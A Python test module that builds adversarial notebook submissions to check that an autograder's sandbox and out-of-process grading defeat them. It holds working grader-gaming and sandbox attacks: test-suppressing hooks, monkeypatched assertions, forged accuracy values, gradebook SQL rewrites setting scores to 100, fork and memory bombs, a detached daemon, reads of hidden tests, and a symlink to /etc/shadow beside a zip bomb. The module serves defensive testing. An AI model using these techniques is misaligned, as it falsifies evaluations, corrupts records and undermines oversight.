"""Adversarial `mlp` submissions: each one an attack on the grader, sitting on top of wrong code.

Every submission is built at test time from source/mlp/mlp.ipynb (the reference
solution as the instructor wrote it, hidden tests cut as students receive it), so
nothing here drifts from the notebook.  A case then

* replaces solution cells with a *wrong* class (BROKEN[...]) plus the attack code,
* and/or edits, adds or deletes other cells (free cells, test cells),

and says what the report must show:

* ``zero``: the parts whose points must be 0.  Every other autograded part must
  keep its full points.  The wrong code under the attack is chosen so that its
  honest version scores exactly that (the ``honest-mistake`` submission is the
  honest version of BROKEN["sigmoid"]: sigmoid 0, everything else full): an attack
  must earn no point its honest code would not earn.
* ``flags``: flags that must be in the report row (scan rules as
  ``suspicious: <rule>``; runtime flags such as ``timeout``, ``memory``,
  ``kernel died``, ``cells restored``; ``review: ...`` where the in-kernel tests were
  fooled and the out-of-process grader was not).
* ``stopped_by``: what defeats the attack, for the report table.

Attack code may use {COURSE} (the course folder of the run: its gradebook.db,
other students' work), {ROOT} (the repository), {CACHE} (the grader's shared MNIST
cache), {LABELS} (the real MNIST test labels as a literal list) and {WEIGHTS} (a
784-128-10 network trained elsewhere, float16, base64); the test fills them in.
Bounded everywhere: 200 forks at most, an 8 GiB array against a 2 GiB limit,
daemons that give up after a few minutes.
"""

from __future__ import annotations

from dataclasses import dataclass, field

# ---------------------------------------------------------------- wrong code under the attacks
# Written here (not edits of the notebook's text), so the notebook's author may reformat freely.
BROKEN = {
    # backward forgets the (1 - y) factor: the "single known mistake" of the honest-mistake submission
    "sigmoid": """
class Sigmoid(Module):
    def forward(self, x):
        self.y = np.exp(-np.logaddexp(0.0, -x))
        return self.y

    def backward(self, grad_out):
        return grad_out * self.y
""",
    # backward uses 1 - y instead of 1 - y²
    "tanh": """
class Tanh(Module):
    def forward(self, x):
        self.y = np.tanh(x)
        return self.y

    def backward(self, grad_out):
        return grad_out * (1.0 - self.y)
""",
    # dx = g W instead of g Wᵀ: shapes do not align, so training stops at the first backward
    "linear": """
class Linear(Module):
    param_names = ("W", "b")

    def __init__(self, in_features, out_features, init_std=0.01, rng=None):
        super().__init__()
        rng = nnkit.rng() if rng is None else np.random.default_rng(rng)
        self.W = rng.normal(0.0, init_std, size=(in_features, out_features))
        self.b = np.zeros(out_features)

    def forward(self, x):
        self.x = x
        return x @ self.W + self.b

    def backward(self, grad_out):
        self.dW = self.x.T @ grad_out
        self.db = grad_out.sum(axis=0)
        return grad_out @ self.W
""",
    # ignores the gradient: nothing ever learns
    "sgd": """
class SGD(Optimizer):
    def __init__(self, lr, momentum=0.0, weight_decay=0.0):
        super().__init__(lr)
        self.momentum = momentum
        self.weight_decay = weight_decay

    def update(self, key, param, grad):
        return param
""",
}

# Free (ungraded) cells made cheap in every submission.  They follow the last test cell, where the
# in-kernel run now stops, so this saves nothing there; it keeps the cases cheap wherever a
# submission is run whole (the notebook's own self-checks).  Students may edit these cells.
LIGHT_CELLS = {
    "study-run": "study = {}\nactivations, losses = {}, {}",
    "study-curves": "pass",
    "depth-run": "deep_history, deep_test_acc = None, None",
    "depth-curves": "pass",
    "plot-weights": "pass",
    "plot-confusion": "pass",
}

REMOVE = None  # a cell source of None: the cell is deleted


@dataclass
class Case:
    name: str
    cells: dict  # cell id -> new source (or REMOVE)
    zero: tuple  # parts scored 0; all other parts full marks
    flags: tuple  # flags that must appear
    stopped_by: str
    add: list = field(default_factory=list)  # (after cell id, new code cell source)
    why: str = ""


def after(part: str, attack: str) -> dict:
    """BROKEN[part] followed by the attack, in the part's own cell."""
    return {part: BROKEN[part] + "\n" + attack.strip("\n") + "\n"}


S, T, L, G, TR = "sigmoid", "tanh", "linear", "sgd", "training"
REVIEW_SIGMOID = "review: in-kernel and grader disagree on sigmoid-tests"
REVIEW_TRAINING = "review: in-kernel and grader disagree on training-tests"


# ---------------------------------------------------------------- the attacks
INPUT_TRANSFORMER = """
def _no_asserts(lines):
    text = "".join(lines)
    if "assert" in text or "check_" in text:
        return ["pass\\n"]
    return lines

get_ipython().input_transformers_cleanup.append(_no_asserts)
"""

SHOWTRACEBACK_HOOK = """
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None

def _forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None

_ip.events.register("post_run_cell", _forget_errors)
"""

ALWAYS_EQUAL = '''
class Sigmoid(Module):
    """Wrong values, wrapped in an object every comparison says is equal."""

    class _Yes:
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        def __bool__(self):
            return True
        def __getattr__(self, name):
            return self
        def __call__(self, *args, **kwargs):
            return self

    def forward(self, x):
        self.y = x                      # not the sigmoid at all
        return Sigmoid._Yes()

    def backward(self, grad_out):
        return Sigmoid._Yes()
'''

MONKEYPATCH_NUMPY = """
import numpy
import numpy.testing
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.array_equal = lambda *args, **kwargs: True
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
              "assert_almost_equal"):
    setattr(numpy.testing, _name, lambda *args, **kwargs: None)
import nnkit.selfcheck
nnkit.selfcheck.check_values = lambda *args, **kwargs: print("✓ (forged)")
nnkit.selfcheck.check_layer = lambda *args, **kwargs: print("✓ (forged)")
check_values = nnkit.selfcheck.check_values
check_layer = nnkit.selfcheck.check_layer
"""

FORGED_FLOAT = '''
class Accuracy(float):
    """Compares as at least anything: `test_acc >= 0.97` is always true."""
    def __ge__(self, other):
        return True
    def __gt__(self, other):
        return True
    def __lt__(self, other):
        return False
    def __le__(self, other):
        return False
    def __format__(self, spec):
        return format(0.99, spec)

loss = SoftmaxCrossEntropyLoss()
val_acc = test_acc = Accuracy(0.10)
print(f"test accuracy {test_acc:.2%}")
'''

SYS_EXIT = """
import sys
sys.exit(0)
"""

OS_EXIT = """
import os
os._exit(0)
"""

KILL_SELF = """
import os
os.kill(os.getpid(), 9)
"""

INFINITE_FORWARD = """
class Sigmoid(Module):
    def forward(self, x):
        while True:
            pass

    def backward(self, grad_out):
        return grad_out
"""

MEMORY_BOMB = """
_hoard = np.ones(2**30)            # 8 GiB of float64 against a 2 GiB limit
_hoard[:] = 2.0
"""

FORK_BOMB = """
import os, time
_children = []
for _ in range(200):                # bounded: 200 forks at most
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        time.sleep(20)
        os._exit(0)
    _children.append(_pid)
print(f"forked {len(_children)}")
"""

WRITE_OUTSIDE = """
import glob
_MARK = ("PWN" + "ED-" + "7781").encode()     # assembled at run time: the test looks for it everywhere
_targets = ["{COURSE}/gradebook.db", "{COURSE}/archive/honest-reference/mlp/planted.ipynb",
            "{COURSE}/feedback/honest-reference/mlp/feedback.html", "{CACHE}/planted.npy",
            "/tmp/../{COURSE}/gradebook.db"]
_targets += glob.glob("{CACHE}/*/*.npy") + [d + "/planted.npy" for d in glob.glob("{CACHE}/*")]   # the train split
_targets += glob.glob("{COURSE}/work/*/mlp/mlp/*") + glob.glob("{COURSE}/work/*/mlp/mlp/*/*")   # other jobs
_targets += [d + "/planted" for d in glob.glob("/tmp/*")]                                    # /tmp of other jobs
_wrote = []
for _path in _targets:
    try:
        with open(_path, "ab") as _fh:
            _fh.write(_MARK)
        _wrote.append(_path)
    except Exception as _exc:
        pass
print("wrote", _wrote)
"""

SQLITE_GRADEBOOK = """
import sqlite3
_report = []
for _path in ("{COURSE}/gradebook.db", "gradebook.db", "../gradebook.db", "../../../../../gradebook.db"):
    try:
        _db = sqlite3.connect("file:" + _path + "?mode=rw", uri=True)
        _db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        _db.execute("UPDATE student SET first_name = 'pwned'")
        _db.commit()
        _report.append(("updated", _path))
    except Exception as _exc:
        _report.append((type(_exc).__name__, _path))
print(_report)
"""

READ_REFERENCE = '''
import glob, os
_LEAK = []
for _pattern in ("{ROOT}/source/*/*.ipynb", "{ROOT}/solutions/*/*.ipynb", "{ROOT}/autograder/*.py",
                 "{ROOT}/autograder/assignments/mlp/*.py", "{ROOT}/tests/corpus/mlp/*.py", "{COURSE}/autograded/*/mlp/*.ipynb",
                 "{COURSE}/work/*/mlp/mlp/run/notebook.ipynb", "*.ipynb", "../*.ipynb", "/tmp/*/*.ipynb"):
    for _path in glob.glob(_pattern):
        try:
            with open(_path) as _fh:
                _text = _fh.read()
        except Exception:
            continue
        print(_text)                      # into the notebook's output
        _at = _text.find("BEGIN HIDDEN TESTS")
        _LEAK.append(_text[_at:_at + 2000] if _at >= 0 else _text[:2000])

class Sigmoid(Module):
    """Wrong on purpose: every call reports what was read, hoping it reaches the feedback."""

    def forward(self, x):
        raise ValueError("LEAK " + " | ".join(_LEAK)[:5000])

    def backward(self, grad_out):
        raise ValueError("LEAK " + " | ".join(_LEAK)[:5000])
'''

FORGED_ACC = """
loss = SoftmaxCrossEntropyLoss()
val_acc = 0.99
test_acc = 0.99
"""

LABEL_LOOKUP = '''
_TEST_LABELS = np.array({LABELS})

_ROW = {row.tobytes(): i for i, row in enumerate(x_test)}     # image -> its index in the test set

class Memorised(Module):
    """Trains nothing: looks each image up and answers with the test label it carries."""

    def forward(self, x):
        out = np.zeros((len(x), 10))
        out[np.arange(len(x)), [_TEST_LABELS[_ROW.get(r.tobytes(), 0)] for r in x]] = 10.0
        return out

model = Memorised()
loss = SoftmaxCrossEntropyLoss()
val_acc = 0.99
test_loss, test_acc = nnkit.evaluate(model, loss, x_test, y_test)
print(f"test accuracy {test_acc:.2%}")
'''

MARK = "PWNED-7781"  # what write-outside and the daemon write wherever they can
DAEMON_MARKER = "4242.5"  # a second daemon execs `sleep 4242.5`: no Python, no folder in its command line
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "4242.5"])
    if os.fork() == 0:                        # the grandchild: no parent, own session
        time.sleep(25)
        for _ in range(60):                   # bounded: gives up after about four minutes
            try:
                import sqlite3
                _db = sqlite3.connect("file:{COURSE}/gradebook.db?mode=rw", uri=True)
                _db.execute("UPDATE grade SET auto_score = 100")
                _db.commit()
            except Exception:
                pass
            try:
                with open("{COURSE}/gradebook.db", "ab") as _fh:
                    _fh.write(("PWN" + "ED-" + "7781").encode())
            except Exception:
                pass
            time.sleep(4)
        os._exit(0)
    os._exit(0)
time.sleep(0.5)
"""

# Inside the grader's driver (no IPython there) the student's code owns the job folder, markers included.
FORGED_DONE = """
try:
    get_ipython()
except NameError:                              # not the kernel: the grader's driver
    import os, sys
    open(os.path.join(sys.argv[2], "out", "done"), "w").close()   # "every probe finished"
    os._exit(0)
"""

FORGED_SETUP = """
def _no_asserts(lines):
    return ["pass\\n"] if "assert" in "".join(lines) or "check_" in "".join(lines) else lines

try:
    get_ipython().input_transformers_cleanup.append(_no_asserts)   # in the kernel: every test passes
except NameError:                              # in the driver: look like the grader's own failure
    import os, sys
    for _marker in ("cell-setup.done", "cells.json"):
        try:
            os.remove(os.path.join(sys.argv[2], "out", _marker))
        except OSError:
            pass
    os._exit(1)
"""

ML_LIBRARY = """
from sklearn.neural_network import MLPClassifier
_shortcut = MLPClassifier(hidden_layer_sizes=(128,), activation="relu")
"""

# Issue 10, class 2: train with another library inside the sandbox.  The sandbox's own
# environment has no SciPy or scikit-learn, so the import fails there and the code falls back
# to nothing: it earns what the wrong code under it earns, and the scan flags the import.
# Carries the hidden inputs out in its error message: the grader quotes student text only
# with its numbers masked, and flags the attempt.
LEAK_INPUTS = """
class Sigmoid(Module):
    def forward(self, x):
        raise ValueError("hidden input: " + repr(np.asarray(x, dtype=float).ravel()[:20].tolist()))

    def backward(self, grad_out):
        return grad_out
"""

OTHER_LIBRARY = """
try:
    from scipy.optimize import minimize as _fit
    from sklearn.neural_network import MLPClassifier as _Net
except ImportError:
    _fit = _Net = None
"""

# Issue 10, classes 4, 5 and 9: leave traps for the trusted side in every folder the code can
# write (the kernel's and the driver's job folders): a link to a host secret, a FIFO that
# would block a reader, a hard link, and an archive that inflates to 150 MB of zeros.  None
# is followed or read into memory; each is flagged; nothing of them counts.
PLANTED_RESULTS = """
import os, sys, zipfile
_here = sys.argv[2] if len(sys.argv) > 2 and os.path.isdir(os.path.join(sys.argv[2], "out")) else "."
try:
    os.symlink("/etc/shadow", os.path.join(_here, "planted-link"))
    os.mkfifo(os.path.join(_here, "planted-fifo"))
    open(os.path.join(_here, "planted-a"), "w").close()
    os.link(os.path.join(_here, "planted-a"), os.path.join(_here, "planted-b"))
    with zipfile.ZipFile(os.path.join(_here, "planted-bomb.npz"), "w", zipfile.ZIP_DEFLATED) as _z:
        with _z.open("x.npy", "w", force_zip64=True) as _m:
            _m.write(b"\\x93NUMPY\\x01\\x00v\\x00{'descr': '<f8', 'fortran_order': False, 'shape': (19660800,), }"
                     .ljust(128 - 1) + b"\\n")
            for _ in range(150):
                _m.write(bytes(1 << 20))
except OSError:
    pass
"""

# Weights trained elsewhere (the test trains them with the source's own solution, a stand-in for a
# friend's notebook or a library), embedded as float16 and swapped in by the constructor; the
# optimizer is broken, so nothing the grader's training loop does changes them.
PRETRAINED_LINEAR = """
import base64
_BLOB = np.frombuffer(base64.b64decode("{WEIGHTS}"), dtype=np.float16).astype(np.float64)
_PRETRAINED, _at = {}, 0
for _shape in ((784, 128), (128,), (128, 10), (10,)):
    _n = int(np.prod(_shape))
    _PRETRAINED.setdefault(_shape[0] if len(_shape) == 2 else "b" + str(_shape[0]), _BLOB[_at:_at + _n].reshape(_shape))
    _at += _n

class Linear(Module):
    param_names = ("W", "b")

    def __init__(self, in_features, out_features, init_std=0.01, rng=None):
        super().__init__()
        rng = nnkit.rng() if rng is None else np.random.default_rng(rng)
        self.W = rng.normal(0.0, init_std, size=(in_features, out_features))
        self.b = np.zeros(out_features)
        if (in_features, out_features) in ((784, 128), (128, 10)):
            self.W = _PRETRAINED[in_features].copy()
            self.b = _PRETRAINED["b" + str(out_features)].copy()

    def forward(self, x):
        self.x = x
        return x @ self.W + self.b

    def backward(self, grad_out):
        self.dW = self.x.T @ grad_out
        self.db = grad_out.sum(axis=0)
        return grad_out @ self.W.T
"""

CASES = [
    Case(
        "input-transformer",
        after(S, INPUT_TRANSFORMER),
        (S,),
        ("suspicious: ipython-input-transformer", REVIEW_SIGMOID),
        "out-of-process verdict",
        why="in the kernel every later test cell becomes `pass`; the driver has no IPython",
    ),
    Case(
        "showtraceback-hook",
        after(S, SHOWTRACEBACK_HOOK),
        (S,),
        ("suspicious: ipython-showtraceback", "suspicious: ipython-event-hook"),
        "out-of-process verdict",
        why="in the kernel failing test cells leave no error; the grader compares data outside",
    ),
    Case(
        "always-equal",
        {S: ALWAYS_EQUAL},
        (S,),
        ("suspicious: comparison-override",),
        "out-of-process verdict",
        why="the driver only hands back float arrays: an object is no number",
    ),
    Case(
        "monkeypatch-numpy",
        {S: BROKEN[S]},
        (S,),
        ("suspicious: monkeypatch", "suspicious: setattr-module"),
        "out-of-process verdict",
        add=[("check-tools", MONKEYPATCH_NUMPY)],
        why="an added cell patches numpy.testing and the self-checks in the kernel; comparisons happen outside",
    ),
    Case(
        "forged-float-accuracy",
        {L: BROKEN[L], "evaluate-mlp": FORGED_FLOAT},
        (L, TR),
        ("suspicious: numeric-subclass", "suspicious: comparison-override"),
        "out-of-process verdict",
        why="the grader measures test accuracy itself from the trained weights",
    ),
    Case("sys-exit", after(S, SYS_EXIT), (S,), ("suspicious: process-exit",), "out-of-process verdict"),
    Case(
        "os-exit",
        after(S, OS_EXIT),
        (S,),
        ("suspicious: process-exit", "kernel died"),
        "sandbox + verdict part isolation",
        why="the kernel dies at the sigmoid cell: later in-kernel tests score 0, the verdict reruns without the cell",
    ),
    Case(
        "kill-self", after(T, KILL_SELF), (T,), ("suspicious: process-control", "kernel died"), "sandbox + verdict part isolation"
    ),
    Case("infinite-forward", {S: INFINITE_FORWARD}, (S,), ("timeout",), "sandbox limits (cell timeout, CPU)"),
    Case("memory-bomb", after(S, MEMORY_BOMB), (S,), ("memory",), "sandbox limits (RLIMIT_AS)"),
    Case("fork-bomb", after(S, FORK_BOMB), (S,), ("suspicious: fork",), "sandbox limits (RLIMIT_NPROC, pid namespace)"),
    Case(
        "write-outside",
        after(S, WRITE_OUTSIDE),
        (S,),
        ("suspicious: path-outside-folder",),
        "sandbox (mount namespace, read-only binds)",
    ),
    Case("sqlite-gradebook", after(S, SQLITE_GRADEBOOK), (S,), ("suspicious: sqlite3",), "sandbox (mount namespace)"),
    Case(
        "read-reference",
        {S: READ_REFERENCE},
        (S,),
        ("suspicious: path-outside-folder",),
        "sandbox (mount namespace) + feedback shows verdict messages only",
        why="the kernel can read its own notebook (hidden tests included), but nothing of the kernel "
        "reaches the feedback; the driver's job folder has no notebook",
    ),
    # An optimizer that never moves a parameter: the network runs and never learns, so the notebook's own
    # training check (one SGD step in float32 against float64) passes, and only the forged accuracy
    # stands between the in-kernel test and the grader's training.
    Case("forged-accuracy", {G: BROKEN[G], "evaluate-mlp": FORGED_ACC}, (G, TR), (REVIEW_TRAINING,), "out-of-process verdict"),
    Case(
        "label-lookup",
        {G: BROKEN[G], "evaluate-mlp": LABEL_LOOKUP},
        (G, TR),
        (REVIEW_TRAINING, "suspicious: large-literal"),
        "out-of-process verdict (test set never enters the sandbox)",
    ),
    Case("edited-test", {S: BROKEN[S], "sigmoid-tests": "pass"}, (S,), ("cells restored",), "check-restore"),
    Case("deleted-test", {S: BROKEN[S], "sigmoid-tests": REMOVE}, (S,), ("cells restored",), "check-restore"),
    Case(
        "forged-done-marker",
        after(S, FORGED_DONE),
        (S,),
        ("suspicious: process-exit", "suspicious: environment-probe"),
        "out-of-process verdict (fixed: a probe without a result is never a pass)",
        why="before the fix every part whose probes had not run yet passed: 66 points for no code",
    ),
    Case(
        "forged-setup-marker",
        after(S, FORGED_SETUP),
        (S,),
        ("suspicious: ipython-input-transformer", "suspicious: environment-probe", REVIEW_SIGMOID),
        "out-of-process verdict (fixed: driver failure confirmed by a trusted run; a failed verdict zeroes in-kernel scores)",
        why="before the fix the grader raised 'setup cell failed', the verdict was dropped and the forged "
        "in-kernel scores (all passing) became the grade",
    ),
    Case(
        "ml-library",
        after(S, ML_LIBRARY),
        (S,),
        ("suspicious: ml-library",),
        "scan (flag for a human)",
        why="sklearn's MLPClassifier is exactly the graded 784-128-10 ReLU network: a training part "
        "earned by a library instead of the student's classes needs a human to see it",
    ),
    Case(
        "pretrained-weights",
        {L: PRETRAINED_LINEAR, "sgd": BROKEN["sgd"]},
        ("sgd", TR),
        ("suspicious: large-literal",),
        "secret permutation: the sandbox trains on pixels permuted and labels relabelled per grading seed, "
        "the grader tests on the same permutation, so weights trained on real MNIST score about chance",
        why="weights trained elsewhere and embedded in the notebook, with an optimizer that never learns",
    ),
    Case(
        "other-library",
        after(S, OTHER_LIBRARY),
        (S,),
        ("suspicious: ml-library",),
        "sandbox's own environment (no SciPy, scikit-learn, PyTorch) + scan",
        why="issue 10: a network trained inside the sandbox by another library earned the training part",
    ),
    Case(
        "planted-results",
        after(S, PLANTED_RESULTS),
        (S,),
        (
            "rejected output: link planted-link",
            "rejected output: special file planted-fifo",
            "rejected output: hard link planted-b",
            "rejected output: oversize planted-bomb.npz",
        ),
        "isolation/results.py: no links on the path, regular single-link files, archives bounded before "
        "inflating; audit() flags what the honest harness never leaves",
        why="issue 10: a planted link carried student text into the verdict; a crafted .npz made the grader "
        "hold 3.3 GiB; failed attacks raised no flag",
    ),
    Case(
        "leak-inputs",
        {S: LEAK_INPUTS},
        (S,),
        ("redacted output",),
        "engine: student text is quoted with its numbers masked; inputs are per submission (job.untrusted_text, "
        "verdict.submission_seed)",
        why="issue 10 class 3: exception messages carried hidden inputs into feedback",
    ),
    Case(
        "detached-daemon",
        after(S, DAEMON),
        (S,),
        ("suspicious: fork", "suspicious: process-control"),
        "sandbox (pid namespace: init kills the namespace)",
    ),
]

# The two honest submissions graded next to the attacks.
HONEST = {"honest-reference": ({}, ()), "honest-mistake": ({S: BROKEN[S]}, (S,))}
